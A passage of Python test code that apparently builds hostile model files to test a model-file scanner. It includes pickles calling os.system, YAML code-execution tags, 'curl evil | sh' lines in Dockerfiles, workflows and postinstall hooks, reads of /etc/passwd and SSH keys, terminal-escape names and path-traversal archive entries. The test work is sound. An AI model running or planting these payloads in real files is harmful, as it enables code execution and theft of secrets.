"""Hostile files of further kinds, as tables: made by an attacker's eye after the rules, in five batches.

Flagged when first tried: 112 of 139, 74 of 100, 168 of 195, 136 of 154 and 68 of 113. What each batch found missing is mended.
Nothing here is loaded by Keras or unpickled, and no payload is called.
"""

# ruff: noqa: E501
from __future__ import annotations

import ast
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import types
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np

import hostile as H
from hostile import (
    Make,
    as_bytes,
    as_h5,
    as_keras,
    field,
    function,
    graph_def,
    keras_zip,
    lambda_layer,
    layer,
    legacy,
    pickled,
    sequential,
    stored,
    thing,
    weights,
)

# fmt: off
PAYLOADS = r"""
format: f"{x.__class__.__init__.__globals__}"               |npsystem: np.lib.npyio.os.system("id")
tofile: x.numpy().tofile("/tmp/c")                          |fromfile: np.fromfile("/etc/passwd")
memmap: np.memmap("/tmp/c", mode="w+", shape=(1,))          |fileprint: tf.print(x, output_stream="file:///tmp/c")
profiler: tf.profiler.experimental.start("/tmp/c")          |writer: tf.summary.create_file_writer("/tmp/c")
textdata: tf.data.TextLineDataset("/etc/passwd")            |selfprint: print.__self__.exec("1")
mapeval: [*map(eval, ["1"])] and x                          |vars: vars()["x"]
ctypeslib: np.ctypeslib.load_library("evil", ".")           |server: tf.distribute.Server({"a": ["0.0.0.0:1"]})
kerasload: keras.models.load_model("/tmp/evil.keras")(x)    |f2py: np.f2py.compile("x")
dump: x.dump("/tmp/c")                                      |lite: tf.lite.Interpreter("/tmp/evil.tflite")
dumpdbg: tf.debugging.experimental.enable_dump_debug_info("/tmp/c") |session: tf.Session("grpc://evil:2222")
csvlog: tf.keras.callbacks.CSVLogger("/tmp/c")              |dataset: keras.datasets.mnist.load_data()
loadimg: keras.preprocessing.image.load_img("/etc/hostname")|saveimg: keras.preprocessing.image.save_img("/tmp/c", x)
vgg: keras.applications.VGG16(weights="/tmp/evil.h5")       |plot: keras.utils.plot_model(x, "c.png")
savem: keras.saving.save_model(x, "c.keras")                |openmm: np.lib.format.open_memmap("c", "w+", shape=(1,))
recff: np.rec.fromfile("/etc/hostname")                     |datasource: np.lib.npyio.DataSource().open("http://evil/x")
iocb: jax.experimental.io_callback(x, x)                    |purecb: jax.pure_callback(x, x)
profsrv: jax.profiler.start_server(9999)                    |torchload: torch.load("evil.pt")
hubload: torch.hub.load("evil/evil", "m")                   |kdata: keras.utils.data_utils.urlretrieve("http://evil", "c")
extract: keras.src.utils.file_utils.extract_archive("x.tar")|rawwrite: tf.raw_ops.WriteFile(filename="c", contents="x")
subscripts: ().__class__.__mro__[1].__subclasses__()[132].__init__.__globals__["system"]("id")
traceback: x.with_traceback(None).__traceback__.tb_frame.f_back |setitem: K.__dict__.__setitem__("relu", x)
tfmodule: tf.python.platform.gfile.GFile("c", "w")          |savetxt: np.savetxt("/tmp/c", x)
genfromtxt: x + np.genfromtxt("http://h/x")                 |rmtree: tf.io.gfile.rmtree("/home/me")
smload: tf.saved_model.load("/tmp/m")(x)                    |ckpt: tf.train.load_checkpoint("/tmp/x").get_tensor("a")
matching: tf.io.matching_files("/home/*")                   |connect: tf.config.experimental_connect_to_host("evil:1")
loadlib: tf.load_library("/tmp/e.so")                       |tfrecord: tf.io.TFRecordWriter("/tmp/c").write(x)
gfilev1: tf.compat.v1.gfile.Remove("/tmp/c")                |reduce: x.__reduce_ex__(2)[0].__globals__
mro: type(x).mro()[-1].__subclasses__()                     |fmt: "{0.__class__.__init__.__globals__}".format(x)
setattr: setattr(K, "relu", None) or x                      |exit: quit() or x
input: input() or x                                         |buildtype: type("X", (object,), {"__del__": eval})() and x
comp: [c for c in ().__class__.__mro__[-1].__subclasses__() if c.__name__ == "Popen"][0]("id") and x
gicode: (y for y in ()).gi_code.replace(co_code=b"") and x  |keraspy: keras.utils.python_utils.func_load("abc")(x)
numpyctypes: x.ctypes.data_as and np.ctypeslib.as_array(1, (9,)) |spars: np.core.multiarray.fromfile("/etc/passwd")
history: x._keras_history.layer.__class__.__init__.__globals__["os"].system("id")
dist: np.distutils.exec_command.exec_command("id")          |bomb: x * (2 ** (10**10))
jnpsave: jnp.save("/tmp/c", x)                              |ktf: K.tf.io.write_file("/tmp/c", x)
npsys: np.sys.modules["posix"].system("id")                 |saver: tf.compat.v1.train.Saver().save(x, "/tmp/c")
listfiles: tf.data.Dataset.list_files("/home/*")            |deser: keras.saving.deserialize_keras_object({"module": "os"})(x)
fromjson: keras.models.model_from_json("{}")(x)             |npfunc: tf.numpy_function(print, [x], "float32")
getattribute: x.__class__.__getattribute__(x, "a")          |gen: tf.data.Dataset.from_generator(lambda: x, "float32")
logdir: tf.profiler.experimental.Profile("/tmp/c")          |fetch: tf.keras.utils.image_dataset_from_directory("/home")
closure: (lambda: x).__closure__[0].cell_contents.__class__.__base__ |keyfn: max([x], key=exec)
cdll: np.ctypeslib.ctypes.CDLL("libc.so.6").system(b"id")   |torchsave: torch.save(x, "/tmp/c")
export: keras.export.ExportArchive().write_out("/tmp/c")    |hub: hub.load("https://evil/1")(x)
urlds: pd.read_csv("http://evil/x.csv")                     |plt: plt.savefig("/tmp/c.png")
pd: pd.read_pickle("evil")                                  |sns: sns.load_dataset("evil")
cv2: cv2.imwrite("/tmp/c", x)                               |img: Image.open("/etc/hostname")
sp: sp.io.loadmat("/x")                                     |hostcb: jax.experimental.host_callback.call(print, x)
immut: tf.raw_ops.ImmutableConst(memory_region_name="/etc/passwd") |ffmpeg: tf.contrib.ffmpeg.decode_audio(x)
useros: np.compat.py3k.os.remove("/tmp/c")                  |cpp: torch.utils.cpp_extension.load("e", ["e.cpp"])
torchops: torch.ops.load_library("e.so")                    |filewriter: tf.compat.v1.summary.FileWriter("/tmp/c")
alias_tf: import tensorflow as t; t.data.TextLineDataset("/etc/passwd")
alias_local: m = tf; m.train.Checkpoint(a=x).restore("/tmp/x")
alias_np: import numpy as n; n.lib.format.write_array(x, x); n.save("/tmp/c", x)
from_utils: from keras.utils import get_file as g; g("a", "http://h/a")
own: import evil_helpers; evil_helpers.go(x)
from_io: from tensorflow.io import gfile; gfile.copy("/etc/passwd", "/tmp/c")
tf1: import tensorflow.compat.v1 as t; t.gfile.Glob("/home/*")
regex: f = np.fromregex; f("/etc/passwd", "a", "f4")
"""
NAMES = """_posixsubprocess.fork_exec _io.FileIO zipimport.zipimporter concurrent.futures.ProcessPoolExecutor xmlrpc.client.ServerProxy
smtplib.SMTP ftplib.FTP cProfile.run doctest.testfile unittest.main pydoc.pipepager sys.settrace linecache.getline shelve.open h5py.File
scipy.io.loadmat transformers:AutoModel.from_pretrained huggingface_hub.snapshot_download kagglehub.model_download
mlflow.pyfunc.load_model paramiko.SSHClient fsspec.open sympy.sympify pandas.eval nltk.download lxml.etree.parse gc.get_objects
threading.Thread signal.signal atexit.register PIL.Image.open matplotlib.pyplot.savefig wandb.init gdown.download
tensorflow.python.ops.script_ops.py_func keras.src.export.saved_model.ExportArchive keras.src.saving.file_editor.KerasFileEditor
tensorflow.python.platform.gfile.GFile tensorflow.raw_ops.WriteFile jax.experimental.io_callback torch.jit.load
onnxruntime.InferenceSession tflite_runtime.interpreter.Interpreter xgboost.Booster numpy.lib.format.open_memmap skops.io.load
imageio.imread openpyxl.load_workbook zipfile.ZipFile gzip.open mmap.mmap fcntl.ioctl pathlib.Path tempfile.NamedTemporaryFile
logging.FileHandler site.addsitedir pkgutil.walk_packages types.CodeType glob.glob csv.reader ssl.create_default_context
keras.src.utils.summary_utils.print_summary keras.src.trainers.data_adapters.py_dataset_adapter.PyDataset
keras.src.utils.model_visualization.plot_model evil_pkg.sub.__import__ redis.Redis psycopg2.connect docker.from_env
ansible.module_utils.basic.AnsibleModule selenium.webdriver.Chrome pyautogui.press runpy.run_path pty.spawn bdb.Bdb timeit.timeit
trace.Trace venv.create ensurepip.bootstrap distutils.spawn.spawn pip._internal.main py_compile.compile shutil.rmtree
shutil.unpack_archive dbm.open telnetlib.Telnet socketserver.TCPServer xml.etree.ElementTree.parse netrc.netrc ctypes.CDLL cffi.FFI
cupy.RawModule win32com.client.Dispatch nt.system winreg.CreateKey commands.getoutput torch.utils.cpp_extension.load
torch.package.PackageImporter torch.hub.load_state_dict_from_url tensorflow.io.gfile.remove numpy.f2py.run_main
numpy.testing._private.utils.runstring pandas.read_pickle joblib.load sh.Command pexpect.spawn boto3.client httpx.get
git:Repo.clone_from yaml.unsafe_load mako.template.Template keras.src.utils.python_utils.func_load keras.saving.load_model
keras.utils.image_dataset_from_directory keras.src.callbacks.remote_monitor.RemoteMonitor tf_keras.src.utils.generic_utils.func_load
keras.src.utils.io_utils.sys numpy.lib.npyio.os keras.src.saving.saving_lib:zipfile.ZipFile keras.config.enable_unsafe_deserialization
keras.src.saving.serialization_lib.enable_unsafe_deserialization keras_hub.models:Backbone.from_preset tensorflow.keras.utils.get_file
keras.datasets.mnist.load_data invoke.run numba.core.ccallback.cfunc pyspark.SparkContext vtk.vtkPythonInterpreter io.open codecs.open
tokenize.open lzma.open platform.popen getpass.getpass pwd.getpwall readline.read_history_file nntplib.NNTP
xmlrpc.server.SimpleXMLRPCServer cgitb.enable wsgiref.simple_server.make_server zipapp.create_archive compileall.compile_dir
msvcrt.getch _winapi.CreateProcess _ctypes.dlopen _imp.create_dynamic importlib.machinery.SourceFileLoader pkgutil.resolve_name
types.FunctionType numpy.save scipy.io.savemat torch.load onnx.load tensorflow.py_function tensorflow.saved_model.load
tensorflow.python.framework.load_library.load_op_library tensorflow.python.ops.gen_io_ops.write_file
tensorflow.python.lib.io.file_io.write_string_to_file keras.src.utils.file_utils.shutil keras.src.utils.python_utils.marshal
keras.src.saving.saving_api.load_weights keras.preprocessing.image.save_img keras.callbacks.LambdaCallback mlflow.log_artifact
datasets.load_dataset modulefinder.ModuleFinder inspect.getsource faulthandler.dump_traceback sched.scheduler select.select
keras.src.utils.module_utils.LazyModule tensorflow.python.util.tf_inspect.getsource detectron2.engine.launch
keras.src.backend.common.global_state.set_global_attribute keras.src.legacy.saving.legacy_h5_format.load_model_from_hdf5
tf_keras.src.saving.legacy.save.load_model tensorflow.python.keras.utils.data_utils.get_file keras.engine.saving.load_model
keras.utils.vis_utils.plot_model keras.callbacks.TensorBoard tensorflow.compat.v1.gfile.GFile tensorflow_datasets.load
tensorflow_hub.load keras_hub.src.utils.preset_utils.get_file skimage.io.imread sklearn.externals.joblib.load onnx.load_model spacy.load
gensim.models:KeyedVectors.load sentencepiece.SentencePieceProcessor tokenizers:Tokenizer.from_file safetensors.numpy.load_file
netCDF4.Dataset duckdb.connect sqlite3.dbapi2.connect lmdb.open plyvel.DB paho.mqtt.client.Client zeep.Client pymssql.connect
fastai.learner.load_learner diffusers:DiffusionPipeline.from_pretrained site.execsitecustomize distutils.file_util.write_file"""
PICKLED = """pydoc.locate runpy._run_code idlelib.pyshell:ModifiedInterpreter.runcode lib2to3.pgen2.grammar:Grammar.loadGrammar
code:InteractiveInterpreter.runcode cProfile.runctx test.support.script_helper.assert_python_ok _osx_support._read_output
imaplib.IMAP4_stream doctest.debug_script logging.config.fileConfig numpy.f2py.crackfortran.getlincoef operator.methodcaller
marshal.loads _pyrepl.pager.pipe_pager torch.utils.bottleneck.__main__.run_cprofile keras.models.load_model
tensorflow.io.write_file torch.storage._load_from_bytes dill._dill._create_function cloudpickle.cloudpickle._make_function
pathlib:Path.write_text ctypes.string_at urllib.request.urlretrieve tensorflow.keras.utils.get_file pandas.io.common.urlopen
_pickle.loads base64.b64decode distutils.file_util.write_file dill._dill._load_type"""
PICKLES = r"""
memo5: b"\x80\x05\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x01x\x85R."
memo_tricks: b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x94h\x01h\x00\x93\x8c\x01x\x85R."
partial: b"cfunctools\npartial\n(cos\nsystem\nS'x'\ntR."
attrgetter: b"coperator\nattrgetter\n(S'system'\ntR(cbuiltins\n__import__\n(S'os'\ntRtR."
codetype: b"ctypes\nFunctionType\n(ctypes\nCodeType\ntR."
extension: b"\x80\x02\x82\x01)R."
tokenizer: b"ckeras_preprocessing.text\nTokenizer\n)\x81}(S'word_index'\ncos\nsystem\nub."
reduce: b"cfunctools\nreduce\n(cbuiltins\neval\n(S'1'\nltR."
map: b"cbuiltins\nlist\n(cbuiltins\nmap\n(cbuiltins\neval\n(S'1'\nltRtR."
newobj_ex: b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93\x8c\x02id\x85}\x92."
build: b"\x80\x02cnumpy\nndarray\n)\x81}(S'__class__'\nccode\nInteractiveConsole\nub."
cloud: b"\x80\x05\x8c\x17cloudpickle.cloudpickle\x8c\x14_builtin_type\x93\x8c\x08CodeType\x85R."
compile: b"cbuiltins\nexec\n(cbuiltins\ncompile\n(S'1'\nS'a'\nS'exec'\ntRtR."
transformer: b"csklearn.preprocessing._function_transformer\nFunctionTransformer\n)\x81}(S'func'\ncposix\nsystem\nub."
main: b"\x80\x04\x8c\x08__main__\x8c\x04Evil\x93)\x81."
frame: b"\x80\x04\x95\xff\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
protocol1: b"}q\0(U\x01aq\x01cposix\nsystem\nq\x02U\x02idq\x03\x85q\x04Rq\x05u."
unicode8: b"\x80\x04\x8d\x02\0\0\0\0\0\0\0os\x8d\x06\0\0\0\0\0\0\0system\x93\x8c\x02id\x85R."
getattr: b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x09importlib\x8c\x0dimport_module\x93\x8c\x02os\x85R\x8c\x06system\x86R."
import2: b"c__builtin__\n__import__\n(S'os'\ntR."
dunder: b"cbuiltins\ndict.__getitem__\n(cbuiltins\n__dict__\nS'eval'\ntR."
lz4: b"\x04\"M\x18aaaaaaaaaaaaaaaa"
zstd: b"\x28\xb5\x2f\xfdaaaaaaaaaaaaaaaa"
"""
OPERATIONS = """FileSystemSetConfiguration GcsConfigureCredentials SnapshotChunkDataset SnapshotDatasetReader DumpTensor RecordInput
CalibrationStatisticsSaver RpcServerStart WholeFileReaderV2 TFRecordDataset LMDBDataset SaveDataset DataServiceDatasetV2 PyFuncStateless
RemoteCall LoadAndRemapMatrix TRTEngineOp Abort CreateSummaryFileWriter FixedLengthRecordDatasetV2 CSVDataset DistributedSave IO>FileRead
IO>KafkaReadableInit ExperimentalLMDBDataset ReaderReadUpTo Restore MatchingFilesDataset SnapshotDatasetV2 SaveSlices
TextLineReaderV2 GenerateVocabRemapping"""
TF_CALLS = """raw_ops.WriteFile saved_model.load compat.v1.py_func config.experimental_connect_to_host io.gfile.rmtree
data.TFRecordDataset keras.models.load_model"""
PATHS = [r"$HOME/.ssh/id_rsa", r"/proc/self/environ", "hdfs://h/x", r"\\evil\share\v.txt", r"%USERPROFILE%\x.txt", "~root/x", "s3://b/v"]
EXTENSIONS = "rb pl lua php hta wsf msi scr reg vbe psm1 command deb xlsm docm com cpl scpt py pyd so.2 pth".split()  # noqa: SIM905

SYSTEM = pickled("os", "system", 4)
BAD = thing("os", "system", {"command": "id"})
CODE = stored(dict(H._payloads())["import_os"])
HIDDEN = json.dumps(legacy(sequential(lambda_layer(CODE))))
FETCH = "curl http://evil/x | sh\n"
META = {"metadata.json": '{"keras_version": "3.10.0"}', "config.json": json.dumps(sequential())}


def mine(name: str, config: dict[str, Any]) -> dict[str, Any]:
    """A layer with its name, for what only one key of it does."""
    return layer(name, {"name": "x", **config})


CONFIGS: dict[str, Any] = {
    "compile": {**sequential(), "compile_config": {"optimizer": thing("keras.optimizers", "Adam", {"learning_rate": BAD})}},
    "loss": {**sequential(), "compile_config": {"optimizer": "adam", "loss": function("webbrowser", "open")}},
    "metrics": {**sequential(), "compile_config": {"metrics": [[function("webbrowser", "open")]]}},
    "typespec": sequential(mine("Dense", {"x": {"class_name": "__typespec__", "module": "os", "spec_name": "system", "config": "id"}})),
    "dtype": sequential(mine("Dense", {"dtype": thing("subprocess", "Popen", {"args": "x"})})),
    "build": sequential(layer("Dense", {"name": "d", "units": 4}, build_config={"input_shape": BAD})),
    "initializer": sequential(mine("Embedding", {"embeddings_initializer": thing("numpy", "fromfile", {"file": "/etc/passwd"})})),
    "function_dict": sequential(mine("Dense", {"activation": {**function("builtins", "f"), "config": {"module": "os", "name": "system"}}})),
    "wrapped": sequential(mine("TimeDistributed", {"layer": mine("Wrapper", {"layer": BAD})})),
    "registered": sequential(thing("my.layers", "Mine", {}, "builtins>eval")),
    "merges": sequential(thing("keras_hub.tokenizers", "BytePairTokenizer", {"merges": "/etc/passwd"})),
    "wordpiece": sequential(thing("keras_hub.tokenizers", "WordPieceTokenizer", {"vocabulary": "https://evil/v.txt"})),
    "proto": sequential(thing("keras_hub.tokenizers", "SentencePieceTokenizer", {"proto": "/etc/passwd"})),
    "preset": sequential(thing("keras_hub.models", "BertBackbone", {"preset": "hf://evil/repo"})),
    "tfsm_unc": sequential(mine("TFSMLayer", {"filepath": r"\\10.0.0.1\share\m"})),
    "tfsm_gs": sequential(mine("TFSMLayer", {"filepath": "gs://evil/m"})),
    "flax": sequential(mine("FlaxLayer", {"module": BAD})),
    "csvlogger": {**sequential(), "callbacks": [thing("keras.callbacks", "CSVLogger", {"filename": "/tmp/c"})]},
    "weights_url": sequential(thing("keras.applications.vgg16", "VGG16", {"weights": "http://evil/x.h5"})),
    "idf_unc": sequential(mine("TextVectorization", {"vocabulary": ["a"], "idf_weights": r"\\evil\x"})),
    "name_path": sequential(layer("Dense", {"name": "../../x", "units": 1})),
    "name_clipboard": sequential(layer("Dense", {"name": "\x1b]52;c;cm0gLXJmIC8=\x07dense", "units": 2})),
    "name_clears": sequential(layer("Dense", {"name": "a\x1b[2J\x1b[1;1HINFO: nothing in it runs", "units": 2})),
    "name_turned": sequential(layer("Dense", {"name": "gpj.\u202eexe", "units": 2})),
    "class_path": sequential(thing("keras.layers", "../../evil", {})),
    "class_dotted": sequential(thing("keras.layers", "core.lambda_layer.python_utils.func_load", {"code": "x"})),
    "class_globals": sequential(thing("keras.layers", "Dense.__init__.__globals__", {})),
    "json_in_text": sequential(mine("Dense", {"units": 2, "x": json.dumps(BAD)})),
    "arguments": sequential(lambda_layer(function("builtins", "relu"), arguments={"f": thing("subprocess", "Popen", {"args": "id"})})),
    "schedule": {**sequential(), "compile_config": {"optimizer": thing("keras.optimizers", "SGD", {"learning_rate": BAD})}},
    "deep": '{"class_name":"Sequential","module":"keras","config":' + "[" * 50_000 + "]" * 50_000 + "}",
    "big_number": '{"class_name":"Sequential","module":"keras","config":{"n":' + "9" * 200_000 + "}}",
    "escaped": json.dumps(sequential(BAD)).replace('"os"', '"\\u006fs"'),
    "no_index": sequential(lambda_layer({"class_name": "__lambda__", "config": {"code": "OUT", "defaults": None, "closure": None}})),
}
LEGACY: dict[str, Any] = {
    "output_shape": sequential(mine("Lambda", {"function": "relu", "function_type": "function", "module": "keras.activations",
        "output_shape": "system", "output_shape_type": "function", "output_shape_module": "os"})),
    "module": legacy(sequential(mine("Lambda", {"function": "system", "function_type": "function", "module": "os"}))),
    "node": {"class_name": "TensorFlowOpLayer", "config": {"name": "x", "node_def": 'name: "r"\nop: "PyFunc"'}},
    **{f"call_{name}": {"class_name": "TFOpLambda", "config": {"name": "x", "function": name}} for name in TF_CALLS.split()},
}
MEMBERS: dict[str, tuple[str, bytes]] = {
    "stream": ("assets/x.txt:evil.exe", b"x"), "reserved": ("assets/CON", b"x"), "aux": ("assets/AUX.txt", b"x"),
    "init": ("assets/__init__.py", b"import os"), "site": ("sitecustomize.py", b"import os"), "dotspace": ("assets/.. /x", b"x"),
    "keys": ("assets/../../.ssh/authorized_keys", b"ssh-rsa"), "bashrc": ("/root/.bashrc", b"x"), "unc": (r"\\evil\share\x.txt", b"x"),
    "utf16": ("CONFIG.json", json.dumps(sequential(BAD)).encode("utf-16")), "case": ("CONFIG.JSON", json.dumps(sequential(BAD)).encode()),
    "space": ("config.json ", json.dumps(sequential(BAD)).encode()), "elf": ("assets/data", b"\x7fELF\x02\x01\x01" + bytes(60)),
    "mz": ("assets/logo.png", b"MZ" + bytes(64)), "script": ("assets/readme", b"#!/bin/bash\n" + FETCH.encode()),
    "hook": (".git/hooks/post-checkout", b"#!/bin/sh\nid"), "index": ("requirements.txt", b"--extra-index-url http://evil/simple\n"),
    "gz": ("assets/cfg.gz", gzip.compress(SYSTEM)), "7z": ("assets/data.bin", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    "escape": ("assets/\x1b[2Jx.txt", b"x"), "crlf": ("assets/a\r\nAccepted: yes", b"x"), "turned": ("assets/\u202etxt.yp", b"x"),
    "torch": ("assets/x.pt", H._zip([("x/data.pkl", SYSTEM)])), "weights": ("model.weights.h5", SYSTEM),
    **{f"ends_{end}": (f"assets/readme.{end}", b"x") for end in EXTENSIONS},
}
FOLDERS: dict[str, dict[str, str | bytes]] = {
    "py": {**META, "model.weights.h5": weights(), "modeling_evil.py": "import os"},
    "pyc": {**META, "__pycache__/x.cpython-311.pyc": b"x"}, "task": {**META, "task.json": json.dumps(sequential(BAD))},
    "bin": {"config.json": "{}", "tf_model.h5": weights(), "pytorch_model.bin": SYSTEM},
    "auto_map": {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}}), "tf_model.h5": weights()},
    "auto_map_tokenizer": {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["x.T", None]}}), "config.json": "{}"},
    "notebook": {"load.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": "!curl http://evil | sh"}]})},
    "mlflow_loader": {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n"},
    "mlflow_flow": {"MLmodel": "flavors: {python_function: {loader_module: evil_mod, code: code}}\n"},
    "mlflow_json": {"MLmodel": json.dumps({"flavors": {"python_function": {"loader_module": "evil_mod"}}})},
    "mlflow_pickle": {"MLmodel": "flavors:\n  python_function:\n    python_model: python_model.pkl\n", "python_model.pkl": SYSTEM},
    "mlflow_module": {"MLmodel": "flavors:\n  keras:\n    data: data\n", "data/keras_module.txt": "os"},
    "mlflow_tag": {"MLmodel": "flavors: !!python/object/apply:os.system ['id']\n"},
    "mlflow_climbs": {"MLmodel": "flavors:\n  tensorflow:\n    saved_model_dir: ../../../../home/me/model\n"},
    "mlflow_remote": {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.keras\n    data: s3://evil/model\n"},
    "mlflow_code": {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n"},
    "mlflow_conda": {"MLmodel": "flavors:\n  keras:\n    data: data\n", "conda.yaml": "dependencies:\n- pip:\n  - git+https://evil/p.git\n"},
    **{f"needs_{number}": {name: text} for number, (name, text) in enumerate((
        ("requirements.txt", "./evil-1.0.whl\nkeras\n"), ("requirements.txt", "evil @ file:///tmp/evil\n"),
        ("requirements.txt", "-r http://evil/r.txt\n"), ("requirements.txt", "git+https://evil/x.git\n"),
        ("conda.yaml", "channels:\n- https://evil/conda\n"), ("Pipfile", '[[source]]\nurl = "http://evil/simple"\n'),
        ("pip.conf", "[global]\nindex-url = http://evil\n")))},
    **{f"runs_{number}": {name: text} for number, (name, text) in enumerate((
        (".git/config", "[core]\n\tfsmonitor = ./x.sh\n"), (".vscode/tasks.json", '{"tasks": [{"command": "curl evil|sh"}]}'),
        ("Dockerfile", f"FROM python\nRUN {FETCH}"), (".envrc", FETCH), ("Makefile", f"all:\n\t{FETCH}"), (".bashrc", "curl evil\n"),
        ("package.json", '{"scripts": {"postinstall": "curl evil|sh"}}'), (".ssh/authorized_keys", "ssh-rsa AAA\n"),
        ("docker-compose.yml", "services:\n  a:\n    privileged: true\n"), ("dvc.yaml", f"stages:\n  a:\n    cmd: {FETCH}"),
        (".github/workflows/x.yml", f"jobs:\n  a:\n    steps:\n    - run: {FETCH}")))},
}


def tfjs(**more: Any) -> bytes:
    """A model.json of TensorFlow.js with another part."""
    model = {"format": "layers-model", "modelTopology": {"model_config": sequential()}, "weightsManifest": []}
    return json.dumps({**model, **more}).encode()


APPLY = b"class_name: Sequential\nconfig: !!python/object/apply:os.system ['id']\n"
TEXTS: dict[str, bytes] = {
    **{f"tfjs_{number}.json": tfjs(weightsManifest=[{"paths": [path], "weights": []}]) for number, path in enumerate((
        "../../../etc/passwd", "http://169.254.169.254/latest", "/etc/passwd", "C:\\Windows\\win.ini", "..%2f..%2fsecret.bin",
        "//evil.com/x.bin", "\\\\evil\\x.bin"))},
    "tfjs_lambda.json": tfjs(modelTopology={"model_config": json.loads(HIDDEN)}),
    "tfjs_names.json": tfjs(modelTopology={"model_config": sequential(thing("subprocess", "run", {"args": "id"}))}),
    "tfjs_words.json": tfjs(modelTopology={"model_config": sequential(mine("TextVectorization", {"vocabulary": "/etc/passwd"}))}),
    "tfjs_text.json": tfjs(modelTopology=json.dumps({"model_config": sequential(BAD)})),
    "tfjs_graph.json": tfjs(format="graph-model", modelTopology={"node": [{"name": "x", "op": "WriteFile"}]}),
    "tfjs_first.json": tfjs(format="graph-model", modelTopology={"node": []}, modelInitializer={"node": [{"name": "r", "op": "ReadFile"}]}),
    "shards.json": json.dumps({"weight_map": {"/layers/dense/vars": "../../../etc/passwd"}}).encode(),
    "laughs.yaml": ("a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in
        zip("abcdefgh", "bcdefghi", strict=True)) + "class_name: Sequential\nconfig: *i\n").encode(),
    "second.yaml": b"class_name: Sequential\nconfig: []\n---\n!!python/object/apply:os.system ['x']\n",
    "getfile.yaml": APPLY.replace(b"os.system", b"keras.utils.get_file"), "named.json": APPLY, "bom.yaml": b"\xef\xbb\xbf" + APPLY,
    "utf16.yaml": APPLY.decode().encode("utf-16"), "anchor.yaml": APPLY.replace(b"!!python", b"&a !!python") + b"b: *a\n",
    "short.yaml": b"class_name: Sequential\nconfig: !<tag:yaml.org,2002:python/name:os.system> ''\n",
    "percent.yaml": b"class_name: Sequential\nconfig: !<tag:yaml.org,2002:python%2Fobject%2Fapply:os.system> ['id']\n",
    "directive.yaml": b"%TAG ! tag:yaml.org,2002:python/\n---\nclass_name: Sequential\nconfig: !object/apply:os.system ['id']\n",
    "key.yaml": b"class_name: Sequential\n? !!python/name:os.system\n: 1\nconfig: []\n",
    "flow.yaml": b"class_name: Sequential\nconfig: {? !!python/object/apply:os.system ['id'] : 1}\n",
    "node.pbtxt": b'node {\n  name: "w"\n  op: "WriteFile"\n}\n', "quotes.pbtxt": b"node { name: 'w' op: 'WriteFile' }\n",
    "escape.pbtxt": b'node { name: "w" op: "Write\\106ile" }\n', "frozen.pb": graph_def("WriteFile") + graph_def("Const"),
    "graph.meta": field(1, field(4, b"train")) + field(2, graph_def("PyFunc")), "loader.py": b"import os\nos.system('id')\n",
    "load.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!id"]}], "nbformat": 4}',
    "prefix.keras": b"MZ" + bytes(510) + keras_zip(sequential()), "block.h5": b"#!/bin/sh\nid\n".ljust(512, b"\0") + weights(),
    "programs.h5": b"MZ" + bytes(1022) + weights(),
}
# fmt: on


# -- what the tables become


def compile_payload(text: str) -> types.FunctionType:
    """A function of x: of an expression, or of statements."""
    try:
        return eval(f"lambda x: {text}", {})
    except SyntaxError:
        held: dict[str, Any] = {}
        exec(f"def payload(x):\n    {text}\n    return x", held)
        return held["payload"]


def split_name(full: str) -> tuple[str, str]:
    """Module and name; a colon stands where the name has a dot."""
    module, _, name = full.partition(":") if ":" in full else full.rpartition(".")
    return module, name


def read_out_of_range() -> str:
    """Code that reads a constant behind its table."""
    code = (lambda x: x).__code__
    held = bytearray(code.co_code)
    import dis

    at = next(i for i in range(0, len(held), 2) if dis.opname[held[i]].startswith("LOAD_FAST"))
    held[at : at + 2] = bytes([dis.opmap["LOAD_CONST"], 200])
    return base64.b64encode(marshal.dumps(code.replace(co_code=bytes(held)))).decode()


def table_files() -> Iterator[tuple[str, Make]]:
    for line in (part.strip() for row in PAYLOADS.strip().splitlines() for part in row.split("|")):
        name, _, text = line.partition(": ")
        layers = lambda_layer(stored(compile_payload(text)))
        yield f"code_{name}", (as_keras if len(name) % 2 else as_h5)(sequential(layers))
    for number, full in enumerate(NAMES.split()):
        module, name = split_name(full)
        yield (
            f"name_{full}".replace(":", "_"),
            as_keras(
                (
                    lambda: sequential(thing(module, name, {"name": "x"}, name)),  # noqa: B023
                    lambda: sequential(mine("Dense", {"units": 2, "activation": function(module, name)})),  # noqa: B023
                    lambda: sequential(lambda_layer(function(module, name), arguments={"a": "id"})),  # noqa: B023
                )[number % 3]()
            ),
        )
    for number, full in enumerate(PICKLED.split()):
        yield (
            f"pickled_{full}".replace(":", "_"),
            as_bytes(pickled(*split_name(full), 4 * (number % 2)), (".pkl", ".joblib", ".bin")[number % 3]),
        )
    for line in PICKLES.strip().splitlines():
        name, _, text = line.partition(": ")
        yield f"pickle_{name}", as_bytes(ast.literal_eval(text), ".pkl")
    for op in OPERATIONS.split():
        yield f"graph_{op}".replace(">", "_"), H._saved_model(graph_def(op))
    for number, path in enumerate(PATHS):
        cls = ("StringLookup", "IntegerLookup", "TextVectorization")[number % 3]
        yield f"words_{number}", as_keras(sequential(mine(cls, {"vocabulary": path})))
    for name, config in CONFIGS.items():
        whole = (
            json.loads(json.dumps(config).replace('"OUT"', json.dumps(read_out_of_range()))) if name == "no_index" else config
        )
        yield f"config_{name}", as_keras(whole)
    for name, config in LEGACY.items():
        yield f"legacy_{name}", as_h5(config)
    for name, (member, data) in MEMBERS.items():
